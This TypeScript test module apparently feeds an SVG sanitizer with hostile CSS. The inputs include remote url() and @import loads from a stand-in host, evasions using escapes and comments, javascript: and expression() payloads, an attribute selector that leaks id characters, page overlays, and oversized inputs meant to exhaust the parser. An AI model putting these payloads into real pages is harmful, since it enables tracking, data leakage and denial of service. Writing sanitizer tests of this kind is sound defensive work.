import { harmInMarkup, hostile, renderHostile, type HostileDrawing } from "./hostile-drawing.ts";

/** Declarations that fetch or run something in browsers of today or once. */
const declarations: Readonly<Record<string, string>> = {
  "a picture": "fill:url(https://evil.test/x.svg#a)",
  "a picture in quotes": "fill:url( 'https://evil.test/x.svg#a' )",
  "a picture in capitals": "FILL:URL(https://evil.test/x.svg#a)",
  "a picture in escapes": String.raw`fill:\75\72\6c(https://evil.test/x.svg#a)`,
  "a picture around a comment": "fill:u/**/rl(https://evil.test/x.svg#a)",
  "a picture as a mask": "mask:url(//evil.test/x.svg#a)",
  "a picture as a mask's image": "mask-image:url(//evil.test/x.png);-webkit-mask:url(//evil.test/y.png)",
  "a picture as a clip": "clip-path:url(https://evil.test/x.svg#a)",
  "a picture as a filter": "filter:url(data:image/svg+xml,x#a)",
  "a picture as a marker": "marker:url(https://evil.test/x.svg#a);marker-start:url(https://evil.test/x.svg#a)",
  "a picture behind": "background:url(https://evil.test/x.png)",
  "a picture in a set": "background-image:image-set('https://evil.test/x.png' 1x)",
  "a picture of the pointer": "cursor:url(https://evil.test/x.cur),auto",
  "a picture after a variable": "--a:url(https://evil.test/x.png);background:var(--a)",
  "a picture after a fallback": "fill:var(--none,url(https://evil.test/x.svg#a))",
  text: "content:url(https://evil.test/x.png)",
  "an expression": `width:expression(${harmInMarkup})`,
  "a behavior": "behavior:url(https://evil.test/x.htc)",
  "a binding": "-moz-binding:url(https://evil.test/x.xml#a)",
  "a script": `fill:url(javascript:${harmInMarkup})`,
  "a place over the page": "position:fixed;inset:0;width:100vw;height:100vh;z-index:9999",
  "a movement of the page": "animation:x 1s;transition:all 1s",
};

const sheets: Readonly<Record<string, string>> = {
  "an import": "@import 'https://evil.test/x.css';",
  "an import by address": "@import url(https://evil.test/x.css);path{fill:red}",
  "an import in capitals": "@IMPORT URL(//evil.test/x.css);",
  "an import in escapes": String.raw`@\69mport 'https://evil.test/x.css';`,
  "an import around a comment": "@im/**/port 'https://evil.test/x.css';",
  "an import in data": "@import 'data:text/css,*{background:url(https://evil.test/x.png)}';",
  "a font": "@font-face{font-family:f;src:url(https://evil.test/x.woff)}text{font-family:f}",
  "a font in a condition": "@media all{@font-face{font-family:f;src:url(https://evil.test/x.woff)}}path{fill:red}",
  "a vocabulary": "@namespace url(https://evil.test/);path{fill:red}",
  "a supported condition": "@supports (fill:red){path{fill:url(https://evil.test/x.svg#a)}}",
  "what is nested": "g{path{fill:url(https://evil.test/x.svg#a)}}",
  "what is not closed": "path{fill:url(https://evil.test/x.svg#a)",
  "a comment that is not closed": "/* path{fill:red} ",
  "what spies on attributes": 'path[id^="s"]{fill:url(https://evil.test/s)}',
  "what styles the page": "html,body,:root{display:none!important}*{fill:url(https://evil.test/x)}",
  "thousands of rules": "path.a{fill:red}".repeat(3_000),
  "a long selector": `${".a".repeat(30_000)}{fill:red}`,
  "many selectors": `${"*,".repeat(30_000)}path{fill:red}`,
  "many spaces": `path{fill:red${" ".repeat(80_000)}important}`,
  "many brackets": `path{fill:${"url(".repeat(15_000)}}`,
  "many braces": "{".repeat(90_000),
  "many variables": `path{fill:${"var(--a,".repeat(10_000)}}`,
};

export const listStyleSheets = (): HostileDrawing[] => [
  ...Object.entries(declarations).flatMap(([name, text]) => [
    hostile(`style with ${name}`, renderHostile(`<path d="M0 0h9v9" style="${text.replaceAll('"', "&quot;")}"/>`)),
    hostile(`rule with ${name}`, renderHostile(`<style>path{${text}}</style>`)),
    hostile(`rule in CDATA with ${name}`, renderHostile(`<style type="text/css"><![CDATA[*{${text}}]]></style>`)),
  ]),
  ...Object.entries(sheets).flatMap(([name, text]) => [
    hostile(`sheet with ${name}`, renderHostile(`<style>${text}</style>`)),
    hostile(`sheet in CDATA with ${name}`, renderHostile(`<g class="a"><style><![CDATA[${text}]]></style></g>`)),
  ]),
  hostile(
    "sheet of pages",
    renderHostile(`<style xmlns="http://www.w3.org/1999/xhtml">@import "https://evil.test/x.css";</style>`),
  ),
  hostile(
    "sheet in pieces",
    renderHostile("<style>@imp<!-- x -->ort <![CDATA[url(https://]]>evil.test/x.css);</style>"),
  ),
];
